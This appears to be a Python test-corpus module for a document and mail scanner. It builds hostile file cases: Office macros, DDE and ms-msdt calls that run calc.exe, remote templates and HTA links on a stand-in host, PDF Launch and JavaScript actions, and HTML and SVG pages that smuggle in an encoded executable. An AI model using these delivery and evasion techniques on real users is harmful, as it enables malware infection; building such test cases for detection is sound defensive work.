"""Owns hostile cases in documents: macros, embedded programs, actions, pages that build a file, pictures that act."""

from __future__ import annotations

import base64
import gzip
import struct
import zlib
from functools import partial

from support.corpus import payloads
from support.corpus.case import ENCRYPTED, MACRO, PROGRAM, SCRIPT, SHORTCUT, STOPPED, Register
from support.corpus.office import (
    docx,
    encrypted_office,
    old_excel,
    old_slides,
    old_word,
    onenote,
    outlook_message,
    outlook_streams,
    package,
    pdf,
    pdf_in_object_stream,
    pdf_stream,
    pdf_with_file,
    pptx,
    record,
    relation,
    relations,
    rtf,
    rtf_object,
    slides_storage,
    vba_project,
    vba_streams,
    xlsx,
)
from support.corpus.packers import zipped
from support.corpus.shapes import attached, letter_of, mail, multipart, packed, part, program
from support.files import compound, packaged

office = Register("office")
pdfs = Register("pdf")
rtfs = Register("rtf")
pages = Register("page")
notes = Register("notes")

_EXE = payloads.windows_program()
_VBA = vba_project(payloads.MACRO)
_TEMPLATE = relations(relation(b"attachedTemplate", b"http://files.invalid/a.dotm", outside=True))
_MACRO_SHEET = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
_FODT = b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Main\nShell("calc")\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts></office:document>'

for _name, _technique, _file, _build, _found in (
    ("docm", "a macro in a Word document", b"letter.docm", partial(docx, {"word/vbaProject.bin": _VBA}), MACRO),
    ("docx-macro", "a macro in a document that is not named for one", b"letter.docx", partial(docx, {"word/vbaProject.bin": _VBA}), MACRO),
    ("doc-is-docm", "a new document with a macro named as an old one", b"letter.doc", partial(docx, {"word/vbaProject.bin": _VBA}), MACRO),
    ("vba-renamed", "the macro's part under another name", b"letter.docx", partial(docx, {"word/theme/theme.xml": _VBA, "word/_rels/document.xml.rels": relations(b'<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/theme.xml"/>')}), MACRO),
    ("vba-upper", "the macro's part in capitals", b"letter.docx", partial(docx, {"WORD/VBAPROJECT.BIN": _VBA}), MACRO),
    ("xlsm", "a macro in a workbook", b"marks.xlsm", partial(xlsx, {"xl/vbaProject.bin": _VBA}), MACRO),
    ("pptm", "a macro in a presentation", b"talk.pptm", partial(pptx, {"ppt/vbaProject.bin": _VBA}), MACRO),
    ("xlm", "a macro sheet of Excel 4 in a new workbook", b"marks.xlsm", partial(xlsx, {"xl/macrosheets/sheet1.xml": _MACRO_SHEET}), MACRO),
    ("xlm-xlsx", "a macro sheet in a workbook that is not named for one", b"marks.xlsx", partial(xlsx, {"xl/macrosheets/sheet1.xml": _MACRO_SHEET}), MACRO),
    ("xlm-elsewhere", "a macro sheet under another name", b"marks.xlsx", partial(xlsx, {"xl/worksheets/sheet1.xml": _MACRO_SHEET, "xl/_rels/workbook.xml.rels": relations(b'<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="worksheets/sheet1.xml"/>')}), MACRO),
    ("template", "a template on a server elsewhere, which may bring macros", b"letter.docx", partial(docx, {"word/_rels/settings.xml.rels": _TEMPLATE}), MACRO | SHORTCUT),
    ("template-share", "a template on a Windows share", b"letter.docx", partial(docx, {"word/_rels/settings.xml.rels": _TEMPLATE.replace(b"http://files.invalid/", b"file:///\\\\files.invalid\\")}), MACRO | SHORTCUT),
    ("ole-outside", "an object on a server elsewhere", b"letter.docx", partial(docx, {"word/_rels/document.xml.rels": relations(relation(b"oleObject", b"mhtml:http://files.invalid/a.html!x", outside=True))}), MACRO | SCRIPT | SHORTCUT),
    ("protocol", "a link to a Windows protocol that runs programs", b"letter.docx", partial(docx, {"word/_rels/document.xml.rels": relations(relation(b"oleObject", b"ms-msdt:/id PCWDiagnostic /param IT", outside=True))}), MACRO | SCRIPT | SHORTCUT),
    ("package", "a program as an OLE package", b"letter.docx", partial(docx, {"word/embeddings/oleObject1.bin": package("setup.exe", _EXE)}), PROGRAM),
    ("package-batch", "a batch file as an OLE package, known by its name", b"letter.docx", partial(docx, {"word/embeddings/oleObject1.bin": package("run.bat", payloads.BATCH)}), SCRIPT),
    ("package-contents", "a program in the stream of an ActiveX control", b"letter.docx", partial(docx, {"word/activeX/activeX1.bin": compound({"Contents": _EXE})}), PROGRAM),
    ("embedded-docm", "a document with a macro inside a document", b"letter.docx", partial(docx, {"word/embeddings/a.docm": docx({"word/vbaProject.bin": _VBA})}), MACRO),
    ("alt-chunk", "a page as an alternative part", b"letter.docx", partial(docx, {"word/afchunk.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + payloads.HTA}), SCRIPT),
    ("custom-ui", "a ribbon that calls a macro on load", b"letter.docm", partial(docx, {"customUI/customUI.xml": b'<customUI onLoad="http://files.invalid/a.dotm!run" xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'}), MACRO),
    ("dde", "a field that starts a program (DDE)", b"letter.docx", partial(docx, {"word/document2.xml": b'<w:document xmlns:w="a"><w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'/></w:document>'}), MACRO | SCRIPT),
    ("doc-vba", "a macro in an old document", b"letter.doc", lambda: old_word(vba_streams(payloads.MACRO, "Macros")), MACRO),
    ("doc-vba-photo", "an old document with a macro, named as a photo", b"photo.jpg", lambda: old_word(vba_streams(payloads.MACRO, "Macros")), MACRO),
    ("xls-vba", "a macro in an old workbook", b"marks.xls", lambda: old_excel(further=vba_streams(payloads.MACRO, "_VBA_PROJECT_CUR")), MACRO),
    ("xls-xlm", "a macro sheet in an old workbook", b"marks.xls", partial(old_excel, macro_sheet=True), MACRO),
    ("xls-obfuscated", "an old workbook encrypted with the password that needs no asking", b"marks.xls", partial(old_excel, macro_sheet=True, lead=record(0x2F, struct.pack("<HH", 0, 0x59B3) + b"\x0a\x9a")), MACRO | ENCRYPTED),
    ("ppt-vba", "a macro in an old presentation", b"talk.ppt", lambda: old_slides(stream=slides_storage(_VBA)), MACRO),
    ("ppt-package", "a program in an old presentation", b"talk.ppt", lambda: old_slides(stream=slides_storage(package("setup.exe", _EXE))), PROGRAM),
    ("doc-package", "a program in an old document", b"letter.doc", lambda: old_word({"ObjectPool/_1/\x01Ole10Native": packaged("setup.exe", _EXE)}), PROGRAM),
    ("encrypted", "a document with a password", b"letter.docx", encrypted_office, ENCRYPTED),
    ("xlsb", "a binary workbook with a macro", b"marks.xlsb", lambda: zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": bytes(99), "xl/vbaProject.bin": _VBA}), MACRO),
    ("odt", "an OpenDocument text with a Basic module", b"letter.odt", lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "META-INF/manifest.xml": b"<manifest/>", "Basic/Standard/Module1.xml": b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'}), MACRO),
    ("odt-script", "an OpenDocument text with a Python script", b"letter.odt", lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "META-INF/manifest.xml": b"<manifest/>", "Scripts/python/a.py": b"import os\n"}), MACRO | SCRIPT),
    ("odt-object", "an OpenDocument text with a program as an object", b"letter.odt", lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "META-INF/manifest.xml": b"<manifest/>", "Object 1": package("setup.exe", _EXE)}), PROGRAM),
    ("fodt", "a flat OpenDocument file with Basic in it", b"letter.fodt", lambda: _FODT, MACRO),
    ("word-xml", "a flat Word file (2003 XML) with a macro", b"letter.doc", lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">' + base64.b64encode(b"ActiveMime" + bytes(40) + _VBA) + b"</w:binData></w:docSuppData></w:wordDocument>", MACRO),
    ("flat-opc", "a flat Word file (OPC) with a macro", b"letter.xml", lambda: b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>' + base64.b64encode(_VBA) + b"</pkg:binaryData></pkg:part></pkg:package>", MACRO),
    ("mht-mso", "a document saved as a page, with its macro in ActiveMime", b"letter.doc", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=p\r\n\r\n--p\r\nContent-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n" + base64.b64encode(b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0" + bytes(22) + zlib.compress(_VBA)) + b"\r\n--p--\r\n", MACRO),
    ("access", "an Access database", b"marks.dat", lambda: b"\0\x01\0\0Standard Jet DB\0\x01" + bytes(4096), MACRO | PROGRAM | SCRIPT | STOPPED),
    ("publisher", "a Publisher file with a macro", b"poster.pub", lambda: compound({"Quill/QuillSub/CONTENTS": bytes(5000), **vba_streams(payloads.MACRO, "VBA_Root")}), MACRO),
    ("docx-template-zip", "a document with a macro in a zip", b"files.zip", lambda: zipped({"letter.docx": docx({"word/vbaProject.bin": _VBA})}), MACRO),
):  # fmt: skip
    office.add(_name, _technique, partial(packed, _build, _file), _found)

_LAUNCH = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"
_SCRIPTED = b"<< /Type /Action /S /JavaScript /JS (this.exportDataObject({cName: 'a', nLaunch: 2});) >>"

for _name, _technique, _build, _found in (
    ("file", "a program attached to a PDF", partial(pdf_with_file, b"setup.exe", _EXE), PROGRAM),
    ("file-renamed", "a program attached to a PDF under the name of a text", partial(pdf_with_file, b"note.txt", _EXE), PROGRAM),
    ("file-batch", "a batch file attached to a PDF, known by its name", partial(pdf_with_file, b"run.bat", payloads.BATCH), SCRIPT),
    ("file-zip", "a zip attached to a PDF", lambda: pdf_with_file(b"files.zip", zipped({"setup.exe": _EXE})), PROGRAM),
    ("file-docm", "a document with a macro attached to a PDF", lambda: pdf_with_file(b"letter.docm", docx({"word/vbaProject.bin": _VBA})), MACRO),
    ("file-hex", "an attached program in hexadecimal", lambda: pdf(b"<< /Type /EmbeddedFile /Filter /ASCIIHexDecode /Length %d >>\nstream\n%s>\nendstream" % (2 * len(_EXE) + 1, _EXE.hex().encode())), PROGRAM),
    ("file-two-filters", "an attached program through two filters", lambda: pdf(b"<< /Type /EmbeddedFile /Filter [/ASCII85Decode /FlateDecode] /Length 9 >>\nstream\n%s~>\nendstream" % base64.a85encode(zlib.compress(_EXE))), PROGRAM | STOPPED),
    ("file-untyped", "an attached program whose stream has no type", lambda: pdf(pdf_stream(_EXE), b"<< /F (setup.exe) /EF << /F 4 0 R >> >>", catalogue=b"/AF [5 0 R]"), PROGRAM),
    ("annotation", "a program in an annotation", lambda: pdf(pdf_stream(_EXE, b"/Type /EmbeddedFile "), b"<< /Subtype /FileAttachment /FS << /F (a.txt) /EF << /F 4 0 R >> >> >>"), PROGRAM),
    ("launch", "an action that starts a program", partial(pdf, _LAUNCH, catalogue=b"/OpenAction 4 0 R"), SCRIPT | PROGRAM | SHORTCUT),
    ("launch-escaped", "the action's name in escapes", partial(pdf, _LAUNCH.replace(b"/Launch", b"/L#61un#63h"), catalogue=b"/OpenAction 4 0 R"), SCRIPT | PROGRAM | SHORTCUT),
    ("launch-packed", "the action inside a compressed object stream", partial(pdf_in_object_stream, _LAUNCH), SCRIPT | PROGRAM | SHORTCUT),
    ("script", "a script that runs when the file is opened", partial(pdf, _SCRIPTED, catalogue=b"/OpenAction 4 0 R"), SCRIPT),
    ("script-packed", "a script inside a compressed object stream", partial(pdf_in_object_stream, _SCRIPTED), SCRIPT),
    ("script-names", "a script in the table of names", partial(pdf, _SCRIPTED, catalogue=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), SCRIPT),
    ("script-stream", "a script in a stream of its own", lambda: pdf(pdf_stream(b"this.exportDataObject({cName: 'a', nLaunch: 2});"), b"<< /S /JavaScript /JS 4 0 R >>", catalogue=b"/OpenAction 5 0 R"), SCRIPT),
    ("form-script", "a form that is a script (XFA)", lambda: pdf(pdf_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">event.target.exportDataObject({cName: "a", nLaunch: 2});</script></template></xdp:xdp>'), catalogue=b"/AcroForm << /XFA 4 0 R >>"), SCRIPT),
    ("junk-first", "a kilobyte of junk before the PDF", lambda: b" " * 1000 + pdf(_LAUNCH, catalogue=b"/OpenAction 4 0 R"), SCRIPT | PROGRAM | SHORTCUT),
    ("no-head", "a PDF whose mark is damaged", lambda: pdf(_LAUNCH, catalogue=b"/OpenAction 4 0 R").replace(b"%PDF-1.7", b"%PDF-", 1), SCRIPT | PROGRAM | SHORTCUT),
    ("encrypted", "a PDF with a password and an attached file", lambda: pdf(pdf_stream(bytes(range(256)), b"/Type /EmbeddedFile "), b"<< /Filter /Standard /V 5 /R 6 /Length 256 /O (a) /U (b) /P -4 >>", trailer=b"/Encrypt 5 0 R"), ENCRYPTED),
    ("remote", "an action that opens another PDF's file on a share", partial(pdf, b"<< /S /GoToR /F (\\\\\\\\files.invalid\\\\a.exe) /NewWindow true >>", catalogue=b"/OpenAction 4 0 R"), SCRIPT | SHORTCUT | PROGRAM),
    ("in-html", "a PDF under the name of a page", partial(pdf_with_file, b"setup.exe", _EXE), PROGRAM),
):  # fmt: skip
    _file = b"page.html" if _name == "in-html" else b"letter.pdf"
    pdfs.add(_name, _technique, partial(packed, _build, _file), _found)

_NATIVE = packaged("setup.exe", _EXE)[4:]

for _name, _technique, _file, _build, _found in (
    ("package", "a program as an object", b"letter.rtf", lambda: rtf(rtf_object(b"Package", _NATIVE)), PROGRAM),
    ("package-doc", "the same named as a Word document", b"letter.doc", lambda: rtf(rtf_object(b"Package", _NATIVE)), PROGRAM),
    ("package-batch", "a batch file as an object, known by its name", b"letter.rtf", lambda: rtf(rtf_object(b"Package", packaged("run.bat", payloads.BATCH)[4:])), SCRIPT),
    ("lines", "an object in lines of one letter", b"letter.rtf", lambda: rtf(rtf_object(b"Package", _NATIVE, width=1)), PROGRAM),
    ("groups", "groups between the object's letters", b"letter.rtf", lambda: rtf(rtf_object(b"Package", _NATIVE, width=64)).replace(b"\r\n", b"{\\*\\x y}", 9), PROGRAM | STOPPED),
    ("words", "control words between the object's letters", b"letter.rtf", lambda: rtf(rtf_object(b"Package", _NATIVE, width=64).replace(b"\r\n", b"\\dlx123 ", 9)), PROGRAM | STOPPED),
    ("binary", "an object in binary", b"letter.rtf", lambda: rtf(b"{\\object\\objemb{\\*\\objdata \\bin%d %s}}" % (len(_NATIVE) + 36, struct.pack("<III", 0x501, 2, 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(_NATIVE)) + b"" + _NATIVE)), PROGRAM | STOPPED),
    ("head-short", "a head that only Word accepts", b"letter.rtf", lambda: rtf(rtf_object(b"Package", _NATIVE)).replace(b"{\\rtf1\\ansi", b"{\\rt", 1), PROGRAM),
    ("space-first", "spaces before the head", b"letter.rtf", lambda: b"  \r\n" + rtf(rtf_object(b"Package", _NATIVE)), PROGRAM),
    ("equation", "an object of the equation editor that was abused", b"letter.rtf", lambda: rtf(rtf_object(b"Equation.3", compound({"Equation Native": bytes(28) + b"\x03\x01\x01\x03\x0a\x0a\x01\x08ZZcmd.exe /c calc.exe" + bytes(60)}), words=b"\\objautlink\\objupdate")), MACRO | SCRIPT | PROGRAM | SHORTCUT),
    ("template", "a template on a server elsewhere", b"letter.rtf", lambda: rtf(b"{\\*\\template http://files.invalid/a.dotm}"), MACRO | SHORTCUT),
    ("link", "an object on a server elsewhere, fetched when opened", b"letter.rtf", lambda: rtf(rtf_object(b"OLE2Link", compound({"\x01Ole": b"\x01\0\0\x02\x09\0\0\0\x01\0\0\0" + bytes(16) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://files.invalid/a.hta".encode("utf-16-le")}), words=b"\\objautlink\\objupdate")), MACRO | SCRIPT | SHORTCUT),
):  # fmt: skip
    rtfs.add(_name, _technique, partial(packed, _build, _file), _found)

_B64 = base64.b64encode(_EXE)
_SAVE = b"var b=new Blob([u],{type:'octet/stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='setup.exe';a.click();"
_SMUGGLED = (
    b"<html><body><script>var s=atob('"
    + _B64
    + b"');var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);"
    + _SAVE
    + b"</script></body></html>"
)
_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'


def _in_pieces() -> bytes:
    pieces = [_B64[at : at + 60] for at in range(0, len(_B64), 60)]
    return _SMUGGLED.replace(b"'" + _B64 + b"'", b"+".join(b"'%s'" % each for each in pieces))


def _reversed() -> bytes:
    return _SMUGGLED.replace(b"'" + _B64 + b"'", b"'%s'.split('').reverse().join('')" % _B64[::-1])


def _numbers() -> bytes:
    return (
        b"<html><body><script>var u=new Uint8Array(["
        + b",".join(b"%d" % each for each in _EXE)
        + b"]);"
        + _SAVE
        + b"</script></body></html>"
    )


def _hexadecimal() -> bytes:
    return (
        b"<html><script>var h='"
        + _EXE.hex().encode()
        + b"';var u=Uint8Array.from(h.match(/../g).map(x=>parseInt(x,16)));"
        + _SAVE
        + b"</script></html>"
    )


def _masked() -> bytes:
    masked = base64.b64encode(bytes(each ^ 0x5A for each in _EXE))
    return (
        b"<html><script>var s=atob('"
        + masked
        + b"');var u=Uint8Array.from(s,c=>c.charCodeAt(0)^90);"
        + _SAVE
        + b"</script></html>"
    )


for _name, _technique, _file, _build, _found in (
    ("data-link", "a link that holds the program", b"page.html", lambda: b'<a download="setup.exe" href="data:application/octet-stream;base64,' + _B64 + b'">Open</a>', PROGRAM),
    ("data-link-spaced", "the same with spaces and line ends in the data", b"page.html", lambda: b'<a download="setup.exe" href="data:application/octet-stream;base64,\r\n' + b"\r\n ".join(_B64[at : at + 76] for at in range(0, len(_B64), 76)) + b'">Open</a>', PROGRAM),
    ("data-link-batch", "a link that holds a batch file, known by its name", b"page.html", lambda: b'<a download="run.bat" href="data:text/plain,' + payloads.BATCH.replace(b" ", b"%20").replace(b"\r\n", b"%0A") + b'">Open</a>', SCRIPT),
    ("data-link-entities", "the link's scheme in entities", b"page.html", lambda: b'<a download=setup.exe href="&#100;ata:application/octet-stream;base64,' + _B64 + b'">Open</a>', PROGRAM | SCRIPT),
    ("data-frame", "a frame that holds another page that holds the program", b"page.html", lambda: b'<iframe src="data:text/html;base64,' + base64.b64encode(_SMUGGLED) + b'"></iframe>', PROGRAM | SCRIPT),
    ("data-embed", "an embedded object", b"page.html", lambda: b'<embed src="data:application/x-msdownload;base64,' + _B64 + b'">', PROGRAM),
    ("refresh", "a page that moves on to the program it holds", b"page.html", lambda: b'<meta http-equiv="refresh" content="0;url=data:application/octet-stream;base64,' + _B64 + b'">', PROGRAM | SCRIPT),
    ("srcdoc", "a frame whose page is written into its attribute", b"page.html", lambda: b'<iframe srcdoc="' + _SMUGGLED.replace(b"<", b"&lt;").replace(b'"', b"&quot;") + b'"></iframe>', PROGRAM | SCRIPT),
    ("blob", "a script that builds the program from base64", b"page.html", lambda: _SMUGGLED, PROGRAM | SCRIPT),
    ("blob-upper", "the same with tags in capitals, named .shtml", b"page.shtml", lambda: _SMUGGLED.replace(b"script>", b"SCRIPT>"), PROGRAM | SCRIPT),
    ("blob-pieces", "base64 in pieces that the script joins", b"page.html", _in_pieces, PROGRAM | SCRIPT),
    ("blob-reversed", "base64 written backwards", b"page.html", _reversed, PROGRAM | SCRIPT),
    ("blob-numbers", "the program as a list of numbers", b"page.html", _numbers, PROGRAM | SCRIPT),
    ("blob-hex", "the program in hexadecimal", b"page.html", _hexadecimal, PROGRAM | SCRIPT),
    ("blob-masked", "base64 of the program with each byte changed", b"page.html", _masked, PROGRAM | SCRIPT),
    ("blob-old", "the way of Internet Explorer", b"page.html", lambda: b"<script>window.navigator.msSaveOrOpenBlob(new Blob([atob('" + _B64 + b"')]),'setup.exe')</script>", PROGRAM | SCRIPT),
    ("blob-xhtml", "in XHTML", b"page.xhtml", lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + _SMUGGLED[6:], PROGRAM | SCRIPT),
    ("blob-utf16", "in UTF-16", b"page.html", lambda: b"\xff\xfe" + _SMUGGLED.decode().encode("utf-16-le"), PROGRAM | SCRIPT),
    ("blob-zip", "the page in a zip", b"files.zip", lambda: zipped({"page.html": _SMUGGLED}), PROGRAM | SCRIPT),
    ("blob-text", "the page named as a text", b"page.txt", lambda: _SMUGGLED, PROGRAM | SCRIPT),
    ("blob-nameless", "the page under an ending that nobody knows", b"page.xyz", lambda: _SMUGGLED, PROGRAM | SCRIPT),
    ("blob-mht", "the page in a saved page", b"page.mht", lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(_SMUGGLED), PROGRAM | SCRIPT),
    ("activex", "a page that starts a program by ActiveX", b"page.html", lambda: b"<html><script>" + payloads.JSCRIPT + b"</script></html>", SCRIPT),
    ("protocol", "a page that calls a Windows protocol", b"page.html", lambda: b"<html><script>location.href='ms-msdt:/id PCWDiagnostic /skip force';</script></html>", SCRIPT | SHORTCUT),
    ("svg-script", "a picture with a script", b"logo.svg", lambda: _SVG % (b"<script><![CDATA[" + _SMUGGLED[20:-24] + b"]]></script>"), SCRIPT),
    ("svg-onload", "a picture that acts when it is loaded", b"logo.svg", lambda: _SVG.replace(b"<svg", b'<svg onload="location=\'http://files.invalid\'"') % b"", SCRIPT),
    ("svg-link", "a picture with a link that holds the program", b"logo.svg", lambda: _SVG % (b'<a href="data:application/octet-stream;base64,' + _B64 + b'"><text>Open</text></a>'), PROGRAM | SCRIPT),
    ("svg-foreign", "a page inside a picture", b"logo.svg", lambda: _SVG % (b"<foreignObject>" + _SMUGGLED + b"</foreignObject>"), SCRIPT | PROGRAM),
    ("svg-prefixed", "a script with a name-space prefix", b"logo.svg", lambda: _SVG % b'<s:script xmlns:s="http://www.w3.org/2000/svg">location="http://files.invalid"</s:script>', SCRIPT),
    ("svgz", "a packed picture with a script", b"logo.svgz", lambda: gzip.compress(_SVG % b"<script>location='http://files.invalid'</script>", mtime=0), SCRIPT),
    ("svg-text", "a picture with a script, named as a text", b"logo.txt", lambda: _SVG % b"<script>location='http://files.invalid'</script>", SCRIPT),
    ("xml-style", "an XML file that a style sheet turns into a page", b"data.xml", lambda: b'<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml"><html:script>' + payloads.JSCRIPT + b"</html:script></html:html>", SCRIPT),
):  # fmt: skip
    pages.add(_name, _technique, partial(packed, _build, _file), _found)


@pages.case("the letter itself is the page that builds the program", PROGRAM | SCRIPT)
def body() -> bytes:
    return mail(part(b"Content-Type: text/html\r\n", _SMUGGLED))


@pages.case("the letter itself holds a link with the program", PROGRAM)
def body_link() -> bytes:
    link = (
        b'<p>Hello</p><a download="setup.exe" href="data:application/octet-stream;base64,' + _B64 + b'">Open</a>'
    )
    return mail(multipart(part(b"Content-Type: text/html; charset=utf-8\r\n", link), kind=b"alternative"))


@pages.case("a calendar entry that brings the program along", PROGRAM)
def calendar() -> bytes:
    entry = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=setup.exe:"
    folded = b"\r\n ".join(_B64[at : at + 70] for at in range(0, len(_B64), 70))
    return attached(entry + folded + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", b"invite.ics", b"text/calendar")


@pages.case("an invitation in line that brings the program along, far down in it", PROGRAM)
def calendar_in_line() -> bytes:
    folded = b"\r\n ".join(_B64[at : at + 70] for at in range(0, len(_B64), 70))
    entry = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + b"DESCRIPTION:All are welcome\r\n" * 300
    entry += b"ATTACH;ENCODING=BASE64;VALUE=BINARY:" + folded + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    return mail(multipart(part(b"Content-Type: text/calendar; method=REQUEST\r\n", entry), kind=b"alternative"))


_INNER = outlook_streams("setup.exe", _EXE)

for _name, _technique, _file, _build, _found in (
    ("onenote", "a program in a OneNote section", b"notes.one", lambda: onenote(_EXE), PROGRAM),
    ("onenote-batch", "a script in a OneNote section", b"notes.one", lambda: onenote(payloads.HTA), SCRIPT),
    ("onenote-renamed", "a OneNote section named .dat", b"notes.dat", lambda: onenote(b"hello", _EXE), PROGRAM),
    ("onenote-zip", "a OneNote section in a zip", b"files.zip", lambda: zipped({"notes.one": onenote(_EXE)}), PROGRAM),
    ("msg", "an Outlook message with a program", b"letter.msg", lambda: outlook_message("setup.exe", _EXE), PROGRAM),
    ("msg-renamed", "an Outlook message named .dat", b"letter.dat", lambda: outlook_message("setup.exe", _EXE), PROGRAM),
    ("msg-batch", "an Outlook message with a batch file, known by its name", b"letter.msg", lambda: outlook_message("run.bat", payloads.BATCH), SCRIPT),
    ("msg-msg", "an Outlook message inside an Outlook message", b"letter.msg", lambda: outlook_message("inner", b"", embedded=_INNER), PROGRAM),
    ("msg-zip", "a zip in an Outlook message", b"letter.msg", lambda: outlook_message("files.zip", zipped({"setup.exe": _EXE})), PROGRAM),
    ("msg-eml", "a letter in an Outlook message", b"letter.msg", lambda: outlook_message("letter.eml", letter_of(program())), PROGRAM),
    ("oft", "an Outlook template with a program", b"letter.oft", lambda: outlook_message("setup.exe", _EXE), PROGRAM),
    ("shs", "a scrap of Windows with a program", b"scrap.dat", lambda: compound({"\x01Ole10Native": packaged("setup.exe", _EXE)}), PROGRAM),
    ("vcf", "a visiting card with a program as its picture", b"card.vcf", lambda: b"BEGIN:VCARD\r\nVERSION:3.0\r\nPHOTO;ENCODING=b;TYPE=JPEG:" + b"\r\n ".join(_B64[at : at + 70] for at in range(0, len(_B64), 70)) + b"\r\nEND:VCARD\r\n", PROGRAM),
):  # fmt: skip
    notes.add(_name, _technique, partial(packed, _build, _file), _found)
